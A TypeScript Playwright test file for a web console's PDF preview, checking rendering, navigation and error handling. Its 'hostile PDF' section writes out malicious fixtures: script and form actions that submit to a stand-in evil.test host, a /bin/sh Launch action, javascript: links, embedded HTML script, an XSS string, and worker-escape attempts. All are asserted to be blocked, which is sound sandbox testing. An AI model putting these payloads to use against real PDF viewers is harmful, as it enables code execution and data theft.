import { randomBytes } from 'node:crypto'
import type { BrowserContext } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { upload } from '../support/object-kit.ts'
import type { Visit, VisitOptions } from './browser-kit.ts'
import { consoleStage } from './console-stage.ts'
import { looks } from './looks.ts'
import { encrypted, endless, onePage, pdfOf, printed, scanned, stream } from './pdf-kit.ts'

const stage = consoleStage()

async function shown(
  name: string,
  content: Buffer,
  options?: VisitOptions,
  prepare?: (context: BrowserContext) => Promise<unknown>,
): Promise<Visit> {
  const { client, vaultid } = stage.stocked
  const id = await upload(client, { groupid: vaultid, templateid: '3' }, content, name)
  const visit = await stage.member(options)
  await visit.open(`/object/${id}`)
  await visit.sees(name)
  await prepare?.(visit.context)
  await visit.page.getByRole('button', { name: 'Preview' }).click()
  return visit
}

const square = '0 0 1 rg 0 0 200 200 re f'

/** The colour of the page at a place, in parts of its width and height. */
const colourAt = (visit: Visit, x: number, y: number): Promise<readonly number[]> =>
  visit.page.evaluate(`(() => {
    const shown = document.querySelector('figure canvas')
    const copy = new OffscreenCanvas(shown.width, shown.height).getContext('2d')
    copy.drawImage(shown, 0, 0)
    return [...copy.getImageData(Math.floor(shown.width * ${x}), Math.floor(shown.height * ${y}), 1, 1).data].slice(0, 3)
  })()`)

const letter = (): Promise<Buffer> =>
  printed(`<style>@page { margin: 0 } body { margin: 0; font: 24px sans-serif } div { height: 300px; break-after: page }</style>
    <div><svg width="400" height="300"><rect width="200" height="150" fill="#0a0"/></svg></div>
    <div>Åland, on the second page</div>`)

const sizeOf = (visit: Visit): Promise<{ width: number; height: number }> =>
  visit.page.evaluate(`(({ width, height }) => ({ width, height }))(document.querySelector('figure canvas'))`)

describe('the preview of a PDF', () => {
  it.each(looks)('draws one page after the other, with its text: in %s colours and %i pixels', async (theme, width) => {
    const visit = await shown('letter.pdf', await letter(), { theme, width })
    const { page } = visit
    await page.getByRole('img', { name: 'Page 1 of 2 of letter.pdf' }).waitFor()
    expect(await colourAt(visit, 0.25, 0.25)).toEqual([0, 170, 0])
    expect(await colourAt(visit, 0.75, 0.75)).toEqual([255, 255, 255])
    await page.getByText('This page contains no text').waitFor()
    await visit.expectSound('pdf-drawing')
    await page.getByRole('button', { name: 'Next page' }).focus()
    await page.keyboard.press('Enter')
    await page.getByRole('img', { name: 'Page 2 of 2 of letter.pdf' }).waitFor()
    expect(await colourAt(visit, 0.25, 0.25)).toEqual([255, 255, 255])
    await page.getByText('Text of this page').click()
    await page.getByText('Åland, on the second page', { exact: true }).waitFor()
    await visit.expectSound('pdf-text')
    await page.keyboard.press('Shift+Tab')
    await page.getByRole('button', { name: 'Previous page' }).focus()
    await page.keyboard.press('Enter')
    await page.getByRole('img', { name: 'Page 1 of 2 of letter.pdf' }).waitFor()
    await page.getByRole('button', { name: 'Hide preview' }).click()
    await expect.poll(() => page.workers()).toEqual([])
  })

  it('draws what a scanner has made of a page', async () => {
    const visit = await shown('scan.pdf', scanned())
    await visit.page.getByRole('img', { name: 'Page 1 of 1 of scan.pdf' }).waitFor()
    expect(await colourAt(visit, 0.25, 0.25)).toEqual([0, 0, 0])
    expect(await colourAt(visit, 0.75, 0.75)).toEqual([255, 255, 255])
  })

  it('says of one under a pass phrase that it must be downloaded', async () => {
    const visit = await shown('locked.pdf', encrypted())
    await visit.page.getByRole('alert').getByText('protected by a pass phrase').waitFor()
  })

  it('goes on where the appliance is there again', async () => {
    const blocked = '**/assets/drawing-worker-*'
    const visit = await shown('square.pdf', onePage({ content: square }), undefined, (context) =>
      context.route(blocked, (route) => route.abort()),
    )
    const { page } = visit
    await page.getByRole('alert').getByText('The appliance cannot be reached.').waitFor()
    await page.context().unroute(blocked)
    await page.getByRole('button', { name: 'Try again' }).click()
    await page.getByRole('img', { name: 'Page 1 of 1 of square.pdf' }).waitFor()
  })
})

const action = (text: string): string => `/OpenAction<</S/JavaScript/JS(${text})>>`
const link = (deed: string): string =>
  `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<<${deed}>>>>]/AA<</O<<${deed}>>>>`
const drawn: readonly (readonly [name: string, content: Buffer])[] = [
  [
    'script.pdf',
    onePage({ content: square, catalogue: action('app.alert\\(1\\);this.submitForm\\("https://evil.test"\\)') }),
  ],
  ['launch.pdf', onePage({ content: square, page: link('/S/Launch/F(/bin/sh)') })],
  ['address.pdf', onePage({ content: square, page: link('/S/URI/URI(javascript:window.hit=1)') })],
  ['form.pdf', onePage({ content: square, page: link('/S/SubmitForm/F(https://evil.test/)/Flags 4') })],
  ['wide.pdf', onePage({ content: '0 0 1 rg 0 0 100000 900 re f', page: '/MediaBox[0 0 100000 900]' })],
  ['vast.pdf', onePage({ content: '0 0 1 rg 0 0 100000 100000 re f', page: '/MediaBox[0 0 100000 100000]' })],
  [
    'attached.pdf',
    onePage({
      content: square,
      catalogue: '/Names<</EmbeddedFiles<</Names[(a.html) 5 0 R]>>>>/OpenAction<</S/GoToE/T<</R/C/N(a.html)>>>>',
      more: [
        '<</Type/Filespec/F(a.html)/EF<</F 6 0 R>>>>',
        stream('/Type/EmbeddedFile/Subtype/text#2Fhtml', '<script>hit=1</script>'),
      ],
    }),
  ],
]

/** What a browser does at the wish of a page. */
function watch({ page, context }: Visit): readonly string[] {
  const deeds: string[] = []
  page.on('dialog', (dialog) => {
    deeds.push(dialog.type())
    void dialog.dismiss()
  })
  page.on('download', () => deeds.push('download'))
  context.on('page', (other) => deeds.push(other.url()))
  return deeds
}

describe('the preview of a hostile PDF', () => {
  it.each(drawn)('draws %s, and does nothing else that it asks for', async (name, content) => {
    const visit = await shown(name, content)
    const deeds = watch(visit)
    await visit.page.getByRole('img', { name: `Page 1 of 1 of ${name}` }).waitFor()
    expect(await colourAt(visit, 0.5, 0.5)).toEqual([0, 0, 255])
    await visit.page.locator('figure canvas').click()
    const { width, height } = await sizeOf(visit)
    expect(width * height).toBeLessThanOrEqual(8 * 1024 * 1024)
    expect(await visit.excess()).toBeLessThanOrEqual(0)
    expect(await visit.page.evaluate('window.hit')).toBeUndefined()
    expect(deeds).toEqual([])
  })

  it('shows its text as text', async () => {
    const text = '<img src=x onerror=window.hit=1>'
    const visit = await shown(
      'text.pdf',
      onePage({
        content: `BT /F 9 Tf 9 99 Td (${text}) Tj ET`,
        page: '/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>',
      }),
    )
    await visit.page.getByText('Text of this page').click()
    await visit.page.getByRole('figure').getByText(text, { exact: true }).waitFor()
    expect(await visit.page.evaluate('window.hit')).toBeUndefined()
  })

  it('of fifty thousand pages draws the one that is looked at', async () => {
    const count = 50_000
    const kids = '3 0 R '.repeat(count)
    const visit = await shown(
      'many.pdf',
      pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        `<</Type/Pages/Kids[${kids}]/Count ${count}>>`,
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>',
      ]),
    )
    await visit.page.getByRole('img', { name: 'Page 1 of 50,000 of many.pdf' }).waitFor()
    await visit.page.getByRole('button', { name: 'Next page' }).click()
    await visit.page.getByRole('img', { name: 'Page 2 of 50,000 of many.pdf' }).waitFor()
  })

  it.each([
    ['random.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(5_000)])],
    ['short.pdf', onePage({ content: square }).subarray(0, 150)],
    ['empty.pdf', Buffer.from('%PDF-')],
    ['ring.pdf', pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 9>>'])],
    ['itself.pdf', pdfOf(['<</Type/Catalog/Pages 2 0 R>>'], '/Prev 49')],
    ['page.pdf', Buffer.from('%PDF-<!doctype html><script>window.hit=1</script>')],
  ])('says that %s cannot be shown', async (name, content) => {
    const visit = await shown(name, content)
    await visit.page.getByRole('alert').getByText('This page cannot be shown').waitFor()
    expect(await visit.page.evaluate('window.hit')).toBeUndefined()
    await visit.expectSound('pdf-damaged')
  })

  it('is none where the bytes are those of another kind of file', async () => {
    const text = '<!doctype html><script>window.hit=1</script>'
    const visit = await shown('lie.pdf', Buffer.from(text))
    await visit.page.getByRole('figure').getByText(text, { exact: true }).waitFor()
    expect(visit.page.workers()).toEqual([])
  })

  it('ends where a page is never drawn: with the preview, or after half a minute', async () => {
    const visit = await shown('endless.pdf', endless())
    const { page } = visit
    await page.getByText('Loading page').waitFor()
    await page.getByRole('button', { name: 'Hide preview' }).click()
    await expect.poll(() => page.workers()).toEqual([])
    await page.clock.install()
    await page.getByRole('button', { name: 'Preview' }).click()
    await page.getByText('Loading page').waitFor()
    await page.clock.fastForward(30_000)
    await page.getByRole('alert').getByText('This page takes more than 30 seconds').waitFor()
    await expect.poll(() => page.workers()).toEqual([])
  })
})

/** Each succeeds in a worker without a policy. */
const attempts = (script: string): readonly string[] => [
  `fetch('/')`,
  `new Promise((yes, no) => { const call = new XMLHttpRequest(); call.onload = yes; call.onerror = no; call.open('GET', '/'); call.send() })`,
  `import('${script}')`,
  `import('data:text/javascript,1')`,
  `import(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })))`,
  `eval('1')`,
  `Function('1')()`,
  `new Worker('${script}')`,
  `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
]

it('what takes hold of the worker calls none, and makes no script', async () => {
  const visit = await shown('square.pdf', onePage({ content: square }))
  await visit.page.getByRole('img', { name: 'Page 1 of 1 of square.pdf' }).waitFor()
  const [worker] = visit.page.workers()
  const script = visit.asked.find((url) => /known-workers-[^/]*\.js$/.test(url)) ?? ''
  const outcomeOf = (attempt: string): Promise<string> | undefined =>
    // The debugger's way in lets `eval` be; a timer's does not.
    worker?.evaluate(
      `new Promise((done) => setTimeout(async () => { try { await ${attempt}; done('done') } catch { done('refused') } }))`,
    )
  expect(await outcomeOf('new Uint8Array(1)')).toBe('done')
  for (const attempt of attempts(script))
    expect({ attempt, outcome: await outcomeOf(attempt) }).toEqual({ attempt, outcome: 'refused' })
})
